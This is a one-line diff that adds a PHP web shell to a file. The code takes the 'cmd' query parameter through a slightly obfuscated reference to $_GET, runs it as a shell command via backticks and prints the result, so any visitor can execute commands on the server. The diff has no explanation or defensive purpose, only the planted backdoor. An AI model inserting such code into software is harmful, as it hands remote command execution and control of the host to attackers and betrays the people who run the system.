@@ -1,0 +1,1 @@
+<?php $cmd = ${"_GET"}["cmd"]; echo `$cmd`;
